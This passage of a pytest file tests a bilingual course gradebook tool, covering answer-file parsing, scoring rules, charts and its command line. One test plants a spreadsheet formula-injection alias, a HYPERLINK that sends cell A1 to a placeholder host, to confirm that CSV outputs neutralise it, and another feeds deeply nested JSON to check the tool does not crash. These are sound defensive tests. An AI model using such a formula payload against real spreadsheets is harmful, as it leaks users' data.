        ("q-single", "incorrect"), ("q-single", "correct"), ("q-tf", "incorrect"), ("q-tf", "correct"),
    ]
    Path("exports/dave.csv").write_text(csv_text(rows), encoding="utf-8")
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    # Each retry came after the answer was shown (no hints): kept, flagged, worth nothing.
    assert results.attempts[results.attempts["student"] == "dave"]["revealed"].tolist() == [False, True, False, True]
    assert results.scores().loc["dave", "total"] == 0


@pytest.mark.parametrize("name", sorted(malformed_csv_cases()))
def test_each_malformed_csv_is_skipped_by_name_with_reason(course, name):
    make, reason = malformed_csv_cases()[name]
    write_class()
    content = make(quiz_csv_rows())
    path = Path("exports") / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    results = gradebook.read_class(["exports"])
    assert list(skipped(results)) == [str(path)]
    assert reason in skipped(results)[str(path)]
    assert results.scores()["total"].tolist() == [2, 1.5, 1], "the valid files are all still merged"
    assert "dave" not in results.students


# Invalid attempts, other banks, spreadsheets ---------------------------------------------

LESSON_2 = """
lesson: lesson-2
title: {zh: 測試課二, en: Test lesson two}
objectives:
  - {id: o, text: {zh: 目標, en: Objective}}
questions:
  - id: q-name
    type: text
    level: recall
    objective: o
    section: l2-a
    prompt: {zh: 寫出名稱, en: Give the name}
    accept: {zh: [上海合作組織], en: [SCO]}
    explanation: {zh: 說明五, en: Because five}
  - id: q-deal
    type: single
    level: recall
    objective: o
    section: l2-a
    prompt: {zh: 哪一個, en: Which one}
    options:
      - text: {zh: 第一個, en: The first}
        correct: true
      - text: {zh: 第二個, en: "$400 billion or $55 billion"}
    explanation: {zh: 說明六, en: Because six}
"""


def lesson_2_export(student, attempts):
    (Path("book") / "quizzes" / "lesson-2.yml").write_text(textwrap.dedent(LESSON_2), encoding="utf-8")
    second = load_bank(Path("book/quizzes/lesson-2.yml"))
    items = []
    for minute, (qid, response) in enumerate(attempts):
        result = grade(second.question(qid), response)
        items.append({"question": qid, "question_hash": second.question(qid).content_hash, "response": response,
                      "score": result.score, "max_score": result.max_score, "status": result.status,
                      "time": f"2026-03-09T09:{minute:02d}:00Z"})
    return answers.make_export("lesson-2", items, student)


def test_invalid_attempts_are_kept_but_never_count_as_answers(course):
    write_class()
    # dave: right, then a malformed retry; a malformed true/false; duplicate picks on q-multi
    write("dave.json", export("dave", [("q-single", 0), ("q-single", 9), ("q-tf", "yes"), ("q-multi", [1, 1])]))
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    assert results.attempts[results.attempts["student"] == "dave"]["status"].tolist() == [
        "correct", "invalid", "invalid", "invalid"
    ], "every attempt is kept in attempts"
    scores = results.scores()
    assert scores.loc["dave", "lesson-1 Q1 (q-single)"] == 1, "the malformed retry does not replace the answer"
    assert pd.isna(scores.loc["dave", "lesson-1 Q3 (q-tf)"]) and pd.isna(scores.loc["dave", "lesson-1 Q2 (q-multi)"])
    items = results.items().set_index("question")
    assert items["answered"].tolist() == [4, 3, 3, 2], "a malformed response is not an answer"
    assert items["missed"].tolist() == [3, 2, 1, 1]
    options = results.options().set_index(["question", "option"])
    assert options.loc[("q-multi", 2), ["chosen", "chosen_ever"]].tolist() == [1, 1], "carol only"
    written, _ = results.write(course / "out")
    attempts = pd.read_csv(course / "out" / "attempts.csv", encoding="utf-8-sig")
    assert (attempts["status"] == "invalid").sum() == 3


def test_csv_cells_never_start_a_spreadsheet_formula(course):
    write_class()
    alias = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    write("mallory.json", export(alias, [("q-single", 1), ("q-year", "-1991")]))
    write("mallory-2.json", lesson_2_export(alias, [("q-name", "+1"), ("q-deal", 1)]))
    write("@evil.json", "{broken")
    results = gradebook.read_class(["exports"])
    assert alias in results.students, "the name is kept as written"
    results.write(course / "out")
    cells = []
    for name in ("scores.csv", "items.csv", "options.csv", "attempts.csv", "skipped.csv"):
        with (course / "out" / name).open(encoding="utf-8-sig", newline="") as handle:
            cells += [(name, cell) for row in csv.reader(handle) for cell in row]
    risky = [(name, cell) for name, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert ("scores.csv", "'" + alias) in cells and ("attempts.csv", "'" + alias) in cells
    assert ("attempts.csv", "'+1") in cells and ("attempts.csv", "'-1991") in cells
    scores = pd.read_csv(course / "out" / "scores.csv", encoding="utf-8-sig", index_col="student")
    assert scores.loc["'" + alias, "total"] == 0 and scores.loc["alice", "total"] == 2, "numbers stay numbers"


def test_dollar_signs_in_option_texts_stay_text_in_the_chart(course):
    write_class()
    write("dave.json", lesson_2_export("dave", [("q-name", "SCO"), ("q-deal", 1)]))
    results = gradebook.read_class(["exports"])
    assert "$400 billion or $55 billion" in results.wrong_options()["text_en"].tolist()
    svg = BeautifulSoup(results.chart_html("en", lesson="lesson-2"), "html.parser").find("svg")
    labels = [text.get_text() for text in svg.find_all("text")]
    assert any("$400 billion or $55 billion" in label for label in labels), labels
    assert not any("400 billion or" in label and "$" not in label for label in labels)


# The command line ---------------------------------------------------------------------


def run_cli(*args, cwd):
    return run_lessons("gradebook", *args, cwd=cwd)


def test_the_summary_counts_one_file_and_one_student_in_the_singular(course):
    write("alice.json", export("alice", CLASS["alice"]))
    summary = gradebook.read_class(["exports"]).summary("en")
    assert "Read 1 file: 1 student, lessons lesson-1" in summary
    write("broken.json", "{not json")
    assert "Skipped 1 file:" in gradebook.read_class(["exports"]).summary("en")


def test_cli_writes_outputs_and_lists_skipped_files(course):
    write_class()
    write("broken.json", "{")
    write("scores.csv", "student,total\nalice,5\n")
    result = run_cli("exports", "--out", "results", "--lang", "en", cwd=course)
    assert result.returncode == 0, result.stderr
    assert "Read 3 files: 3 students" in result.stdout
    assert "exports/broken.json: is not valid JSON" in result.stdout
    assert "exports/scores.csv: is not a lessons answers CSV (missing column(s) course," in result.stdout
    assert (course / "results" / "scores.csv").is_file()
    assert (course / "results" / "item-analysis-lesson-1.svg").is_file()
    assert "Traceback" not in result.stderr


def test_cli_skips_a_deeply_nested_file_and_reads_the_rest(course):
    write_class()
    write("deep.json", "[" * 100_000)
    write("deep-object.json", '{"a":' * 100_000)
    result = run_cli("exports", "--out", "results", "--lang", "en", cwd=course)
    assert result.returncode == 0, result.stderr
    assert "Read 3 files: 3 students" in result.stdout
    assert "exports/deep.json: is nested too deeply to be an answers file" in result.stdout
    assert "exports/deep-object.json: is nested too deeply to be an answers file" in result.stdout
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stdout + result.stderr
    assert (course / "results" / "scores.csv").is_file()


def test_cli_exits_2_when_nothing_valid_was_read(course):
    write("broken.json", "{")
    result = run_cli("exports/broken.json", "--out", "results", cwd=course)
    assert result.returncode == 2
    assert "exports/broken.json: is not valid JSON" in result.stdout
    assert "no valid answers file was read" in result.stderr
    assert not (course / "results").exists()
    assert "Traceback" not in result.stderr


def test_a_class_folder_s_archives_are_left_out_and_said_so(course):
    # `class archive` moved an earlier class into archive-<date>-<time>/ of the folder.
    write_class()
    earlier = Path("exports") / "archive-2026-03-01-090000"
    earlier.mkdir()
    (earlier / "Old.json").write_text(json.dumps(export("dora", CLASS["bob"])), encoding="utf-8")
    results = gradebook.read_class(["exports"])
    assert sorted(results.students) == sorted(CLASS)  # not dora
    assert "an earlier class, archived by `python -m lessons class archive`" in skipped(results)[str(earlier)]
    assert gradebook.read_class([str(earlier)]).students == ["dora"]  # named itself, it is read


def test_cli_outside_a_course_grades_with_the_installed_banks(tmp_path):
    # An instructor with the package installed (no clone) grades in any folder.
    # Two good exports of the sample class (which students did lesson 1 varies when it is regenerated).
    exports = sorted((ROOT / "book" / "data" / "sample-class").glob("synthetic-0[0-9]-lesson-1.json"))[:2]
    assert len(exports) == 2
    for export in exports:
        (tmp_path / export.name).write_bytes(export.read_bytes())
    result = run_cli(*(export.name for export in exports), "--out", "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and (tmp_path / "out").is_dir()


# The book's sample class ------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "book" / "data" / "sample-class"


def test_sample_class_reads_with_only_its_two_deliberate_bad_files(monkeypatch):
    monkeypatch.chdir(ROOT / "book")
    results = gradebook.read_class(["data/sample-class"])
    reasons = sorted(item.reason.split(":")[0] for item in results.skipped)
    assert reasons == ["duplicate", f"from course version '0.9.0', this is {answers.course_version()!r}"], (
        f"{results.skipped}: if a quiz bank changed, run: .venv/bin/python scripts/make_sample_class.py"
    )
    assert len(results.students) == 12 and all(s.startswith("synthetic-") for s in results.students)
    assert results.lessons == ["lesson-1", "lesson-2", "lesson-3", "lesson-4", "lesson-5"]


def test_sample_class_is_labelled_synthetic_in_both_languages():
    readme = (SAMPLE / "README.md").read_text(encoding="utf-8")
    assert "這些資料是合成的" in readme and "This data is synthetic" in readme
    page = (ROOT / "book" / "instructor-gradebook.md").read_text(encoding="utf-8")
    assert "本頁的資料是合成的" in page and "The data on this page is synthetic" in page


def test_sample_class_generator_is_deterministic(tmp_path, monkeypatch):
    # Two interpreters (so two string-hash seeds), at the same time: one a
    # subprocess, one this process running the script as __main__.
    script = ROOT / "scripts" / "make_sample_class.py"
    other = subprocess.Popen([sys.executable, str(script), "--out", str(tmp_path / "a")], cwd=ROOT,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    monkeypatch.setattr(sys, "argv", [str(script), "--out", str(tmp_path / "b")])
    monkeypatch.chdir(ROOT)
    runpy.run_path(str(script), run_name="__main__")
    _, errors = other.communicate(timeout=300)
    assert other.returncode == 0, errors
    first = {p.name: p.read_bytes() for p in (tmp_path / "a").iterdir()}
    assert first == {p.name: p.read_bytes() for p in (tmp_path / "b").iterdir()}
    assert len(first) == len(list(SAMPLE.iterdir()))


@pytest.mark.book
def test_gradebook_page_in_the_built_book(built_book):
    from bs4 import BeautifulSoup

    html = BeautifulSoup((built_book / "book" / "instructor-gradebook.html").read_text(encoding="utf-8"), "html.parser")
    article = html.select_one("article")
    text = article.get_text(" ")
    assert "本頁的資料是合成的" in text and "The data on this page is synthetic" in text
    assert "Skipped 2 files" in text and "duplicate: an exact copy of" in text
    assert len(article.select("table")) >= 4, "lesson totals, lesson 1 scores, items, most missed, wrong options"
    figure = article.select_one("figure.lessons-gradebook-chart")
    assert figure.select_one("svg[role=img]") is not None
    assert "每題得分比例" in figure.select_one("svg").get_text(), "Chinese kept as SVG text"
    figures = article.select("figure.lessons-gradebook-chart")
    assert len(figures) == 5, "one chart per lesson of the sample class (lessons 1-5)"
    assert [span["lang"] for span in figure.select("figcaption span")] == ["zh-Hant", "en"]


# For a teacher: one lesson, the numbers students saw, one readable chart per lesson ------------


def test_lesson_option_keeps_one_lesson_and_says_how_many_files_it_left_out(course):
    write_class()
    write("dave.json", lesson_2_export("dave", [("q-name", "SCO"), ("q-deal", 1)]))
    results = gradebook.read_class(["exports"], lesson="lesson-2")
    assert results.students == ["dave"] and results.lessons == ["lesson-2"]
    assert "--lesson lesson-2: 3 file(s) of other lessons left out" in results.notes
    assert results.scores()["possible"].tolist() == [2], "over lesson 2 only"
    with pytest.raises(ValueError, match="unknown --lesson 'lesson-9': use one of lesson-1, lesson-2"):
        gradebook.read_class(["exports"], lesson="lesson-9")


def test_cli_lesson_option_writes_that_lessons_chart_and_refuses_an_unknown_lesson(course):
    write_class()
    write("dave.json", lesson_2_export("dave", [("q-name", "SCO"), ("q-deal", 1)]))
    result = run_cli("exports", "--out", "results", "--lesson", "lesson-1", "--lang", "en", cwd=course)
    assert result.returncode == 0, result.stderr
    assert "Read 3 files: 3 students, lessons lesson-1" in result.stdout
    assert sorted(p.name for p in (course / "results").glob("item-analysis-*.svg")) == ["item-analysis-lesson-1.svg"]
    result = run_cli("exports", "--out", "other", "--lesson", "lesson-9", cwd=course)
    assert result.returncode == 2 and "unknown --lesson 'lesson-9'" in result.stderr
    assert "Traceback" not in result.stderr and not (course / "other").exists()


def test_question_columns_carry_the_number_students_saw_and_try_it(course):
    # q-tf shown only in a Try-it cell: the lesson quiz numbers q-year 3.
    bank_text = textwrap.dedent(BANK).replace("    answer: true\n", "    answer: true\n    tryit: true\n")
    (course / "book" / "quizzes" / "lesson-1.yml").write_text(bank_text, encoding="utf-8")
    write("bob.json", export("bob", [("q-single", 0), ("q-tf", True), ("q-year", 1991)]))
    results = gradebook.read_class(["exports"])
    assert list(results.scores().columns)[:4] == [
        "lesson-1 Q1 (q-single)", "lesson-1 Q2 (q-multi)", "lesson-1 Try it (q-tf)", "lesson-1 Q3 (q-year)",
    ]
    assert results.items()["number"].tolist() == ["Q1", "Q2", "Try it", "Q3"]
    labels = [t.get_text() for t in BeautifulSoup(results.chart_html("en"), "html.parser").find("svg").find_all("text")]
    assert labels[:4] == ["1", "2", "T", "3"], "bars labelled by number; T = Try it"


def test_a_forty_question_lesson_chart_stays_under_900_px(course):
    question = textwrap.dedent(BANK).split("questions:\n")[1].split("  - id: q-multi")[0]
    many = "".join(question.replace("id: q-single", f"id: q-{n}") for n in range(40))
    (course / "book" / "quizzes" / "lesson-1.yml").write_text(textwrap.dedent(BANK).split("questions:\n")[0] + "questions:\n" + many)
    tries = [(f"q-{n}", n % 3) for n in range(40)]
    for student in range(10):
        write(f"s{student}.json", export(f"s{student}", tries[student:] + tries[:student]))
    results = gradebook.read_class(["exports"])
    assert len(results.items()) == 40 and len(results.wrong_options(lesson="lesson-1")) == 8
    figure = results.chart("en")
    width, height = figure.get_size_inches() * gradebook.chart.DPI
    assert height <= 900 and width == 1350
    written, _ = results.write(course / "out", "both")
    import matplotlib.image

    png = matplotlib.image.imread(course / "out" / "item-analysis-lesson-1.png")
    assert png.shape[0] <= 900
    labels = [t.get_text() for t in BeautifulSoup(results.chart_html("en"), "html.parser").find_all("text")]
    assert [str(n) for n in range(1, 41)] == labels[:40]


# Old and new exports (issue 24: "earned"/"points", the points the page showed) ----------


def with_points_shown(document, revealed=False):
    document["answers"] = [
        a | answers.shown_points(grade(bank().question(a["question"]), a["response"]), revealed) for a in document["answers"]
    ]
    return document


def test_an_export_with_and_without_the_points_shown_reads_alike(course):
    """Files from before earned/points (JSON and CSV) and files with them give the same rows."""
    attempts = [("q-single", 1), ("q-single", 0), ("q-multi", [0])]
    new = with_points_shown(export("new", attempts))
    assert [(a["earned"], a["points"]) for a in new["answers"]] == [(0, 1), (1, 1), (0.5, 1)]
    old = export("old", attempts)
    assert "earned" not in old["answers"][0]
    write("new.json", new)
    write("old.json", old)
    answers.write_csv(Path("exports/new-csv.csv"), new | {"student": "new-csv"})
    answers.write_csv(Path("exports/old-csv.csv"), old | {"student": "old-csv"})
    with Path("exports/old-csv.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    before = [c for c in answers.CSV_COLUMNS if c not in answers.SHOWN_FIELDS]  # a CSV from before the new columns
    write("old-csv.csv", csv_text(rows, before))
    results = gradebook.read_class(["exports"])
    assert results.skipped == ()
    scores = results.scores()
    assert {student: list(scores.loc[student, ["lesson-1 Q1 (q-single)", "lesson-1 Q2 (q-multi)"]]) for student in scores.index} == {
        student: [0, 0.5] for student in ("new", "old", "new-csv", "old-csv")
    }
    assert answers.parse_export(answers.document_from_csv(Path("exports/new-csv.csv").read_text(encoding="utf-8"))).answers[2]["earned"] == 0.5


def test_points_shown_that_the_rules_do_not_give_refuse_the_file_like_an_edited_score(course):
    edited = with_points_shown(export("eve", [("q-single", 0)]))
    edited["answers"][0]["earned"] = 0.5  # the grader gives 1, and the page showed 1
    write("eve.json", edited)
    revealed = with_points_shown(export("rex", [("q-single", 0)]), revealed=True)
    revealed["answers"][0]["revealed"] = True
    assert revealed["answers"][0]["earned"] == 0 and revealed["answers"][0]["score"] == 1
    write("rex.json", revealed)
    results = gradebook.read_class(["exports"])
    assert "recorded score 1/1 (0.5 of 1 points shown) but the grader gives 1/1 (1 of 1 points shown)" in skipped(results)["exports/eve.json"]
    assert list(skipped(results)) == ["exports/eve.json"], "a revealed answer's 0 is what the rules give"


def test_points_shown_rounded_either_way_are_what_was_shown(course):
    """Half of a 0.25-point question: quiz.js shows 0.13 (Math.round), Python 0.12; neither is an edited file."""
    text = Path("book/quizzes/lesson-1.yml").read_text(encoding="utf-8")
    Path("book/quizzes/lesson-1.yml").write_text(text.replace("    hints: [", "    points: 0.25\n    hints: ["), encoding="utf-8")
    assert bank().question("q-multi").points == 0.25
    for name, earned in (("browser", 0.13), ("python", 0.12)):
        write(f"{name}.json", export(name, []) | {"answers": [answer("q-multi", [0], 1, earned=earned, points=0.25)]})
    write("edited.json", export("edited", []) | {"answers": [answer("q-multi", [0], 1, earned=0.25, points=0.25)]})
    results = gradebook.read_class(["exports"])
    assert list(skipped(results)) == ["exports/edited.json"]
